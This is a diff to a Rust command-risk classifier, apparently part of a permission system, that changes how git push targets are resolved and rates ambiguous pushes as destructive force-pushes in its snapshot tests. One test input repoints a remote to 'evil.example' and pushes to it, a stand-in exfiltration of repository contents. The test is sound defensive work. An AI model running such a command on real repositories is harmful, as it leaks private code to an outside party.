@@ -257,7 +257,8 @@ fn companions(name: &str, arguments: &Arguments<'_>, remotes: &[Remote], git: &G
 
 /// The worst a push can be: overwriting any ref of any remote.
 pub(super) fn anything(git: &Git<'_>, why: &str, context: &mut Context<'_>) {
-    let known = git.words.iter().find_map(|word| word.known().filter(|text| !text.starts_with('-')));
+    let first = git.words.iter().find(|word| word.value.is_unknown() || !word.text().starts_with('-'));
+    let known = first.and_then(|word| word.known());
     let remotes = match known.filter(|_| git.subcommand == "push") {
         Some(name) => git.repo.remotes(name, context).0,
         None => vec![Remote { name: "*".to_owned(), url: None }],
@@ -397,7 +398,7 @@ mod tests {
         "#);
         assert_snapshot!(check("git remote set-url origin git@evil.example:x/y && git push origin feature"), @r#"
         git.config /repo, write
-        git.push *@origin, write, partial
+        git.force-push *@origin, destroy, partial
         "#);
     }
 
@@ -415,7 +416,7 @@ mod tests {
         "#);
         assert_snapshot!(check("cd /elsewhere && git push origin main"), @r#"
         exec.read cd, read
-        git.push *@origin, write, partial
+        git.force-push *@origin, destroy, partial
         "#);
         assert_snapshot!(check("for b in main dev; do git push origin $b; done"), @"git.force-push *@origin, destroy, partial");
     }
